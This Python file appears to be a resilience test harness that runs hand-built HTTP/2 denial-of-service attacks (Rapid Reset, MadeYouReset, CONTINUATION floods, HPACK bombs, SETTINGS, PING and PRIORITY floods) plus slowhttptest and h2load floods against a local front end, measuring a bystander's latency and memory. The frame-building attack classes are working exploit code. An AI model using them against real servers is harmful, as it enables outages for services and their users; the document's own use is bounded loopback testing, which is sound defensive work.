"""Attacks, while one client goes on as before (bystander.py): how long it waits, what the front end's memory does, and whether it
still stands.

The HTTP/2 attacks are frames made by hand, as many a second as one process can send; slow clients are slowhttptest's, floods of requests
h2load's. All is bounded: `CONNECTIONS` at once, `SECONDS` long, on loopback. The front end has a processor for itself. Whoever attacks has
what the backend and the bystander leave of the others, so that these wait for the front end and not for a processor.
"""

import asyncio
import multiprocessing
import os
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import time
from dataclasses import dataclass

import hpack

import bystander
from fronts import FRONTS, MEMORY, Front

#: How long an attack takes, how long the bystander is watched before it, and how long before that it is not.
SECONDS, QUIET, WARM = 6, 3, 1
CONNECTIONS = 20
#: The most that the bystander's 99th percentile may be of what it was before.
SLOWER = 3

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path=b"/", method=b"GET", more=()):
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path), *more]
    return hpack.Encoder().encode(fields, huffman=False)


class Attack:
    """What is sent on one connection: `begin` once, then `step` again and again, with numbers of streams that grow."""

    def begin(self):
        return PREFACE + frame(SETTINGS, 0, 0)

    def step(self, stream):
        raise NotImplementedError

    #: Streams that a step uses.
    streams = 1


class Requests(Attack):
    """As many requests in one step as there are streams, each with what `behind` says of it."""

    path = b"/"

    def behind(self, stream):
        return b""

    def step(self, stream):
        block = head(self.path)
        ids = range(stream, stream + 2 * self.streams, 2)
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, each, block) + self.behind(each) for each in ids)


class RapidReset(Requests):
    """CVE-2023-44487: requests that are taken back at once."""

    streams = 100

    def behind(self, stream):
        return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


class MadeYouReset(Requests):
    """CVE-2025-8671: requests that the server has to reset, for a window that is moved by nothing."""

    streams = 50

    def behind(self, stream):
        return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


class ContinuationFlood(Attack):
    """CVE-2024-27316 and its kin: a head that has no end."""

    def begin(self):
        return super().begin() + frame(HEADERS, END_STREAM, 1, head())

    def step(self, stream):
        field = b"\x00" + bytes([8]) + b"x-flood-" + bytes([100]) + b"y" * 100
        return frame(CONTINUATION, 0, 1, field * 100) * 10


class EmptyContinuations(ContinuationFlood):
    """The same with nothing in it."""

    def step(self, stream):
        return frame(CONTINUATION, 0, 1) * 1000


class HpackBomb(Attack):
    """A field of four kilobytes that is said a thousand times in one byte each."""

    def step(self, stream):
        block = head(more=[(b"x-bomb", b"y" * 3900)])
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block + b"\xbe" * 2000)


class CountBomb(Attack):
    """Thousands of the shortest fields."""

    def step(self, stream):
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(more=[(b"a", b"")]) + b"\xbe" * 15000)


class SettingsFlood(Attack):
    """CVE-2019-9515: each is to be acknowledged."""

    def step(self, stream):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000


class PingFlood(Attack):
    """CVE-2019-9512: each is to be answered."""

    def step(self, stream):
        return frame(PING, 0, 0, b"flooding") * 1000


class EmptyData(Attack):
    """CVE-2019-9518: a body of frames with nothing in them."""

    def begin(self):
        return super().begin() + frame(HEADERS, END_HEADERS, 1, head(method=b"POST"))

    def step(self, stream):
        return frame(DATA, 0, 1) * 1000


class PriorityFlood(Attack):
    """CVE-2019-9513: trees of priorities, turned over."""

    def step(self, stream):
        return b"".join(frame(PRIORITY, 0, stream + 2 * each, struct.pack(">IB", 0, each % 256)) for each in range(500))


class WindowCrumbs(Attack):
    """A window opened byte by byte."""

    def begin(self):
        return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(HEADERS, END_STREAM | END_HEADERS, 1, head())

    def step(self, stream):
        return frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000


class NeverReads(Requests):
    """CVE-2019-9517: answers are asked for and never taken."""

    streams = 50
    path = b"/large"


ATTACKS = {
    "rapid reset": RapidReset,
    "made you reset": MadeYouReset,
    "CONTINUATION flood": ContinuationFlood,
    "empty CONTINUATION": EmptyContinuations,
    "HPACK bomb": HpackBomb,
    "field count bomb": CountBomb,
    "SETTINGS flood": SettingsFlood,
    "PING flood": PingFlood,
    "empty DATA": EmptyData,
    "PRIORITY flood": PriorityFlood,
    "window in crumbs": WindowCrumbs,
    "never reads": NeverReads,
}
#: Programs that attack, by what follows their name; `{plain}` and `{tls}` are the front end's ports.
TOOLS = {
    "slow heads": "slowhttptest -H -i 3 {slow} -u http://127.0.0.1:{plain}/",
    "slow bodies": "slowhttptest -B -i 3 -s 8192 {slow} -u http://127.0.0.1:{plain}/",
    "ranges": "slowhttptest -R {slow} -u http://127.0.0.1:{plain}/large",
    "slow reads": "slowhttptest -X -w 10 -y 20 -n 5 -z 32 -k 3 {slow} -u http://127.0.0.1:{plain}/large",
    "200 connections of 100 streams": "h2load -c 200 -m 100 {load} https://localhost:{tls}/",
    "1000 connections of 10 streams": "h2load -c 1000 -m 10 {load} https://localhost:{tls}/",
    "windows of 15 bytes": "h2load -c 400 -m 100 -w 4 {load} https://localhost:{tls}/large",
}
HANDSHAKES = "handshakes"


def give_way():
    """Has this process, and what it starts, run only where nobody else wants to: it stands for another machine."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


def attack(port, name, until, told):
    """Runs in a process of its own: as many connections as are let in, one after the other, until it is time."""
    give_way()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    steps = closed = 0
    open_ = []
    kind = ATTACKS.get(name)
    while time.time() < until:
        try:
            while len(open_) < CONNECTIONS and time.time() < until:
                raw = socket.create_connection(("127.0.0.1", port), 2)
                if kind is NeverReads:
                    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                wrapped = context.wrap_socket(raw, server_hostname="localhost")
                if name == HANDSHAKES:
                    wrapped.close()
                    steps += 1
                    continue
                wrapped.settimeout(0.05)
                made = kind()
                wrapped.sendall(made.begin())
                open_.append([wrapped, made, 1, b""])
        except OSError:
            # It takes no more: what is there goes on.
            time.sleep(0.01)
        for entry in list(open_):
            wrapped, made, stream, left = entry
            try:
                left = left or made.step(stream)
                sent = wrapped.send(left)
                entry[3] = left[sent:]
                if not entry[3]:
                    entry[2] = stream + 2 * made.streams
                    steps += 1
                if kind is not NeverReads:
                    wrapped.settimeout(0)
                    try:
                        while wrapped.recv(65536):
                            pass
                        raise ConnectionError
                    except (ssl.SSLWantReadError, BlockingIOError):
                        pass
                    finally:
                        wrapped.settimeout(0.05)
            except (TimeoutError, ssl.SSLWantWriteError):
                pass
            except OSError:
                closed += 1
                open_.remove(entry)
                wrapped.close()
    told.put((steps, closed))


async def serve_backend():
    """Answers at once: five bytes, or as many as are wanted of `/large`."""
    large = b"HTTP/1.1 200 OK\r\nContent-Length: 1048576\r\n\r\n" + b"x" * 1048576
    small = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"

    async def serve(reader, writer):
        try:
            while True:
                got = await reader.readuntil(b"\r\n\r\n")
                length = [line for line in got.lower().split(b"\r\n") if line.startswith(b"content-length:")]
                if length:
                    await reader.readexactly(int(length[0].split(b":")[1]))
                writer.write(large if b" /large" in got else small)
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=512)
    return server, server.sockets[0].getsockname()[1]


async def serve(told):
    """The backend, in a process of its own, which tells its port."""
    server, port = await serve_backend()
    told.put(port)
    await server.serve_forever()


def attack_by_tool(front, name, until, told):
    """Runs in a process of its own: a program that attacks, again where it ends before it is time."""
    give_way()
    seconds = max(1, round(until - time.time()))
    slow, load = f"-c 1000 -r 500 -l {seconds}", f"-t 1 -D {seconds} --connect-to=127.0.0.1:{front.tls}"
    command = TOOLS[name].format(slow=slow, load=load, plain=front.plain, tls=front.tls).split()
    steps = 0
    while time.time() < until:
        program = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            # One that fails at once attacks nobody.
            steps += program.wait(max(0, until - time.time())) == 0
            time.sleep(0.1)
        except subprocess.TimeoutExpired:
            steps += 1
            program.kill()
            program.wait()
    told.put((steps, 0))


async def under(front, name):
    """One attack on a front end that runs."""
    # Not counted: who has just begun may keep the first ones waiting.
    await bystander.watch(front.tls, WARM)
    quiet, unserved = await bystander.watch(front.tls, QUIET)
    if unserved:
        raise RuntimeError(f"it does not serve {unserved} requests before {name}")
    before = most = front.memory()
    until = time.time() + SECONDS
    told = multiprocessing.Queue()
    target, where = (attack_by_tool, front) if name in TOOLS else (attack, front.tls)
    process = multiprocessing.Process(target=target, args=(where, name, until, told), daemon=False)
    process.start()
    watching = asyncio.create_task(bystander.watch(front.tls, SECONDS))
    while not watching.done():
        most = max(most, await asyncio.to_thread(front.memory))
        await asyncio.wait([watching], timeout=0.25)
    loaded, failed = watching.result()
    steps, closed = await asyncio.to_thread(told.get, True, SECONDS + 60)
    process.join()
    return Figures(quiet, loaded, failed, steps, closed, before / 1024, most / 1024, front.stands(), front.name)


@dataclass
class Figures:
    """What one attack did to one front end; times in seconds, memory in MiB."""

    quiet: float
    loaded: float
    failed: int
    steps: int
    closed: int
    before: float
    most: float
    stands: bool
    front: str

    @property
    def times(self):
        return self.loaded / self.quiet

    @property
    def bound(self):
        """Of Vestibule the one in docs/limits.md: an eighth above `limits.memory` nobody is let in. Others may grow by as much."""
        return MEMORY * 9 / 8 + (0 if self.front == "vestibule" else self.before)

    def faults(self):
        found = [
            ("fell", not self.stands),
            (f"{self.failed} not served", self.failed),
            (f"p99 ×{self.times:.1f}", self.times > SLOWER),
            (f"{self.most:.0f} MiB", self.most > self.bound),
        ]
        return [fault for fault, is_there in found if is_there]

    def row(self):
        return {
            "p99 before": f"{self.quiet * 1000:.1f} ms",
            "p99": f"{self.loaded * 1000:.1f} ms",
            "times": f"{self.times:.1f}",
            "not served": str(self.failed),
            "steps": str(self.steps),
            "closed on it": str(self.closed),
            "memory MiB": f"{self.before:.0f} → {self.most:.0f}",
            "stands": "yes" if self.stands else "NO",
            "verdict": ", ".join(self.faults()) or "well",
        }


async def run(peer, names, folder):
    """What each attack did, by its name."""
    told = multiprocessing.Queue()
    backend = multiprocessing.Process(target=lambda: asyncio.run(serve(told)), daemon=True)
    found = {}
    # All but the front end shares what it leaves: who attacks last, who does nothing wrong first.
    own, others = processors()
    os.sched_setaffinity(0, others)
    try:
        backend.start()
        port = await asyncio.to_thread(told.get)
        command = lambda front: ["taskset", "-c", own, *FRONTS[peer](front)]  # noqa: E731
        for name in names:
            program = TOOLS.get(name, "").split(" ")[0]
            if program and not shutil.which(program):
                print(f"{name} is left out: {program} is not installed", file=sys.stderr)
                continue
            front = Front(peer, folder, port, command)
            try:
                await asyncio.to_thread(front.start)
                found[name] = await under(front, name)
            finally:
                await asyncio.to_thread(front.stop)
    finally:
        os.sched_setaffinity(0, range(os.cpu_count()))
        backend.terminate()
        backend.join()
    return found


def processors():
    """The one that the front end has for itself, as taskset(1) takes it, and those of all others."""
    there = sorted(os.sched_getaffinity(0))
    return str(there[0]), there[1:] or there


def all_names():
    return [*ATTACKS, HANDSHAKES, *TOOLS]
